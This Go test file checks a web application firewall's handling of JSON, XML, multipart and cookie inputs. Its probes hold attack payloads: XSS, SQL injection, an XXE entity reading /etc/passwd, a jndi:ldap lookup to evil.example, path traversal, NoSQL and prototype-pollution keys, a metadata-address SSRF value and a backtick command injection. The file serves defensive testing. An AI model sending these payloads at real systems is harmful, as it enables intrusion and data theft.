package waf

import (
	"bytes"
	"errors"
	"fmt"
	"mime/multipart"
	"slices"
	"strings"
	"testing"
)

func TestJSONEmptyContainers(t *testing.T) {
	for body, want := range map[string][]string{
		`{"a":1}`:                            nil,
		`{}`:                                 nil,
		`[]`:                                 nil,
		`{"a":{}}`:                           {"json.a"},
		`{"a":[]}`:                           {"json.a"},
		`{"user":"x","password":{"$ne":[]}}`: {"json.password.$ne"},
		`{"__proto__":{"isAdmin":{}}}`:       {"json.__proto__.isAdmin"},
		`{"a":[{"../../etc/passwd":[]},{}]}`: {"json.a.0.../../etc/passwd", "json.a.1"},
		`{"\u0024where":{},"b":[1,{"c":{}}],"d":2}`: {"json.$where", "json.b.1.c"},
		`[{"k":{}}]`: {"json.0.k"},
		`{"a":{} `:   {"json.a"}, // cut short: what was read
	} {
		if got := jsonEmptyContainers([]byte(body)); !slices.Equal(got, want) {
			t.Errorf("%s: got %q, want %q", body, got, want)
		}
	}
}

func TestCountParts(t *testing.T) {
	body := func(fields, files int) ([]byte, string) {
		var b bytes.Buffer
		mw := multipart.NewWriter(&b)
		for i := range fields {
			_ = mw.WriteField(fmt.Sprintf("f%d", i), "x")
		}
		for i := range files {
			w, _ := mw.CreateFormFile(fmt.Sprintf("u%d", i), "a.txt")
			_, _ = w.Write([]byte("x"))
		}
		_ = mw.Close()
		return b.Bytes(), mw.Boundary()
	}
	for _, c := range []struct {
		fields, files int
		refused       bool
	}{{128, 0, false}, {129, 0, true}, {0, maxFileParts, false}, {0, maxFileParts + 1, true}, {100, 16, false}, {120, 9, true}} {
		b, boundary := body(c.fields, c.files)
		if _, _, err := countParts(b, boundary, 128); (err != nil) != c.refused {
			t.Errorf("%d fields and %d files: err %v, want refused %v", c.fields, c.files, err, c.refused)
		}
	}
}

// TestBodyShapesTheEngineMissed: through a real Caddy, what the fresh
// attack on the WAF got past it: JSON keys whose value is {} or [] (never
// arguments to the engine), and hundreds of multipart file parts (each a
// temporary file, 200-400 ms of CPU per request, past the stated bound).
func TestBodyShapesTheEngineMissed(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	for i := range 300 {
		w, _ := mw.CreateFormFile("f", fmt.Sprintf("a%d", i))
		_, _ = w.Write(nil)
	}
	_ = mw.Close()
	var fn bytes.Buffer
	fw := multipart.NewWriter(&fn)
	w, _ := fw.CreateFormFile("upload", "<script>alert(1)</script>.png")
	_, _ = w.Write([]byte("png"))
	_ = fw.Close()
	for _, p := range []probe{
		{name: "XSS in a multipart file name", method: "POST", path: "/upload", contentType: fw.FormDataContentType(), body: fn.String()},
		{name: "SQL injection in an XML attribute", method: "POST", path: "/x", contentType: "application/xml", body: `<getUser id="1' UNION SELECT password FROM users--"/>`},
		{name: "XSS in an XML attribute", method: "POST", path: "/x", contentType: "text/xml", body: `<a href="javascript:alert(document.cookie)" onload="alert(1)">x</a>`},
		{name: "SQL injection in a processing instruction named xml", method: "POST", path: "/x", contentType: "application/xml", body: `<r><?xml data="1' UNION SELECT password FROM users--"?></r>`},
		{name: "XSS past the fields of the declaration", method: "POST", path: "/x", contentType: "application/xml", body: `<?xml version="1.0" x="<script>alert(1)</script>"?><r/>`},
		{name: "3000 one-character XML text nodes (past max_arguments)", method: "POST", path: "/x", contentType: "application/xml", body: "<r>" + strings.Repeat("c<a/>", 3000) + "</r>"},
		{name: "XXE in a DOCTYPE", method: "POST", path: "/x", contentType: "application/xml", body: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`},
		{name: "jndi in a key of {}", method: "POST", path: "/j", contentType: "application/json", body: `{"${jndi:ldap://evil.example/a}":{}}`},
		{name: "SQL injection in a key of []", method: "POST", path: "/j", contentType: "application/json", body: `{"sort":{"1 UNION SELECT password FROM users--":[]}}`},
		{name: "XSS in a key of {}", method: "POST", path: "/j", contentType: "application/json", body: `{"<script>alert(1)</script>":{}}`},
		{name: "traversal in a nested key of []", method: "POST", path: "/j", contentType: "application/json", body: `{"a":[{"../../../../etc/passwd":[]}]}`},
		{name: "300 empty file parts", method: "POST", path: "/upload", contentType: mw.FormDataContentType(), body: mp.String()},
	} {
		before := *hits
		code, body := send(t, base, p)
		if code < 400 || code > 499 || *hits != before {
			t.Errorf("%s: %d %.200s (backend hits +%d), want it refused", p.name, code, body, *hits-before)
		}
	}
	// and ordinary documents with empty members still pass
	var okBody bytes.Buffer
	okFile := multipart.NewWriter(&okBody)
	fw2, _ := okFile.CreateFormFile("upload", "Quarterly report 2026 (final).pdf")
	_, _ = fw2.Write([]byte("%PDF"))
	_ = okFile.Close()
	for _, p := range []probe{
		{name: "empty list and object", method: "POST", path: "/j", contentType: "application/json", body: `{"tags":[],"meta":{},"name":"O'Brien"}`},
		{name: "XML with attributes", method: "POST", path: "/x", contentType: "application/xml", body: `<?xml version="1.0" encoding="UTF-8"?><order id="42" customer="O'Brien" xmlns:x="urn:example"><item sku="A-1" qty="2" x:note="gift wrap, please"/></order>`},
		{name: "an ordinary file name", method: "POST", path: "/upload", contentType: okFile.FormDataContentType(), body: okBody.String()},
	} {
		before := *hits
		if code, body := send(t, base, p); code != 200 || *hits != before+1 {
			t.Errorf("%s: %d %.200s, want it passed", p.name, code, body)
		}
	}
}

// TestJSONNamesBounded: a JSON body is refused when the names the engine
// makes of it (each leaf's whole path) add up to more bytes than the body
// (or 16 KiB for a small one), as deep nesting over many leaves does; an
// ordinary nested document is not.
func TestJSONNamesBounded(t *testing.T) {
	if _, _, err := bodyChecks("application/json", []byte(deepNames(900, 10)), 128); !errors.Is(err, errNamesTooLong) {
		t.Fatalf("900 nested objects over 10 leaves: %v, want errNamesTooLong", err)
	}
	if _, _, err := bodyChecks("application/json", []byte(deepNames(100, 10)), 128); err != nil {
		t.Fatalf("100 nested objects over 10 leaves (11 KB of names): %v, want it inspected", err)
	}
	// 128 leaves under 8 levels of 12-byte keys: about 14 KB of names
	var b strings.Builder
	b.WriteString(strings.Repeat(`{"abcdefghijk":`, 8) + "{")
	for i := range 128 {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `"f%03d":1`, i)
	}
	b.WriteString(strings.Repeat("}", 9))
	if _, _, err := bodyChecks("application/json", []byte(b.String()), 128); err != nil {
		t.Fatalf("128 leaves 8 levels deep: %v, want it inspected", err)
	}
}

// TestXMLJoinedText: xmlArguments joins an element's text split by
// comments, CDATA, instructions or child elements (the DOM's
// textContent), once per distinct text, and refuses a document whose
// joined texts are past xmlJoinedBound times the body.
func TestXMLJoinedText(t *testing.T) {
	joined := func(doc string) []string {
		out, _, err := xmlArguments([]byte(doc), 1000)
		if err != nil {
			t.Fatalf("xmlArguments(%q): %v", doc, err)
		}
		var texts []string
		for _, a := range out {
			if strings.HasPrefix(a.name, "xml.text.") {
				texts = append(texts, a.name+"="+a.value)
			}
		}
		return texts
	}
	for doc, want := range map[string][]string{
		`<r><q>plain</q></r>`:                       nil,
		`<r><q>SEL<!---->ECT x</q></r>`:             {"xml.text.q=SELECT x"},
		`<r><q>SEL<b/>ECT x</q></r>`:                {"xml.text.q=SELECT x"},
		`<r><q>1 <b>SELECT</b> x</q></r>`:           {"xml.text.q=1 SELECT x"},
		`<env><body><q>a<b/>b</q></body></env>`:     {"xml.text.q=ab"},
		`<r><a>x</a><a>y</a></r>`:                   {"xml.text.r=xy"},
		`<r><q>a<![CDATA[b]]>c</q>tail</r>`:         {"xml.text.q=abc", "xml.text.r=abctail"},
		`<r><q>cut<b/>short`:                        {"xml.text.q=cutshort"},
		"<r>\n  <q>one</q>\n  <p>two</p>\n</r>":     {"xml.text.r=one two"}, // white space between elements is one space (attack 42)
		"<r>\n<q>a</q>\n<p>b\nc</p><!---->\n</r>":   {"xml.text.r=a b\nc"},
		"<host>127.0.0.1<x/>\n<x/>id</host>":        {"xml.text.host=127.0.0.1\nid"}, // mixed content: the line break kept
		`<r><q>x</q><!-- c --><p/></r>`:             nil,
		`<r><q>a</q></r><s><t>b</t><t>b</t></s>`:    {"xml.text.s=bb"},
		`<r><a><b>same<c/>text</b></a></r>`:         {"xml.text.b=sametext"},
		`<r><a>z<a>z<a>x<b/>y</a></a></a></r>`:      {"xml.text.a=xy", "xml.text.a=zxy", "xml.text.a=zzxy"},
		`<r><q>x' OR sleep<b/>EachRow(3)--</q></r>`: {"xml.text.q=x' OR sleepEachRow(3)--"},
	} {
		if got := joined(doc); !slices.Equal(got, want) {
			t.Errorf("xmlArguments(%q) joined %q, want %q", doc, got, want)
		}
	}
	// each element around a long text adds a byte of its own: its
	// text joined again, until the bound
	var deep strings.Builder
	for range 200 {
		deep.WriteString("<a>z")
	}
	deep.WriteString(strings.Repeat("x", 8000) + "<b/>y")
	for range 200 {
		deep.WriteString("</a>")
	}
	if _, _, err := xmlArguments([]byte(deep.String()), 1000); !errors.Is(err, errXMLTextTooLong) {
		t.Errorf("200 elements around 8 KB of split text: %v, want errXMLTextTooLong", err)
	}
}

// FuzzXMLArguments: any document is read without a panic; the joined
// texts stay within xmlJoinedBound times the body, and the arguments
// within max_arguments.
func FuzzXMLArguments(f *testing.F) {
	for _, s := range []string{`<r><q>SEL<!---->ECT</q></r>`, `<r><a>z<a>x<b/>y</a></a></r>`, `<r a="1"><![CDATA[x]]><?p x?></r>`, "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r>\xe9<b/>x</r>", `</a></b><c>`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, doc string) {
		out, _, err := xmlArguments([]byte(doc), 64)
		if err != nil {
			return
		}
		if len(out) > 64 {
			t.Fatalf("xmlArguments(%q): %d arguments, over 64", doc, len(out))
		}
		joined := 0
		for _, a := range out {
			if strings.HasPrefix(a.name, "xml.text.") {
				joined += len(a.value)
			}
		}
		if joined > xmlJoinedBound*len(doc) {
			t.Fatalf("xmlArguments(%q): %d bytes joined, over %d", doc, joined, xmlJoinedBound*len(doc))
		}
	})
}

// FuzzJSONWalk: any document is walked without a panic, and the names
// it counts are the arguments' it returns when it counts those only.
func FuzzJSONWalk(f *testing.F) {
	for _, s := range []string{`{"a":[1,{"b":"x"}],"c(":{}}`, `[[[["x"]]]]`, `{"$ne":1,"k":[true,null]}`, `{"a":`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, doc string) {
		empty, leaves, scalars, keys, names := jsonWalkBounded([]byte(doc), 1<<20, false)
		if names == overNames {
			return
		}
		sum := 0
		for _, e := range empty {
			sum += len(e)
		}
		for _, as := range [][]argument{leaves, scalars, keys} {
			for _, a := range as {
				sum += len(a.name)
			}
		}
		if sum != names {
			t.Fatalf("jsonWalkBounded(%q): names %d, the arguments' names add up to %d", doc, names, sum)
		}
	})
}

// TestSeparatorArguments: a query's parts after a ; and a Cookie
// header's after a , are arguments, as Rails and old Rack read them
// (attack 42).
func TestSeparatorArguments(t *testing.T) {
	for _, c := range []struct {
		query   string
		cookies []string
		want    string
	}{
		{"a=1;q=x%27+or+1", nil, "a=1 q=x' or 1"},
		{"a=1; q=2;r=3&b=4;s", nil, "a=1 q=2 r=3 b=4"},
		{"a=1&b=2", []string{"c=1; d=2"}, ""},
		{"", []string{"a=x, url=%2F%2F169.254.169.254%2F", "ids=1,2,3"}, "a=x url=//169.254.169.254/ ids=1"},
		{"", []string{"a=1; b=x,c=y, d=z"}, "b=x c=y d=z"},
		{"", []string{"q=%60id%60, a=b"}, "q=`id` a=b"},
	} {
		var got []string
		for _, a := range separatorArguments(c.query, c.cookies) {
			got = append(got, a.name+"="+a.value)
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("separatorArguments(%q, %q) = %q, want %q", c.query, c.cookies, got, c.want)
		}
	}
}
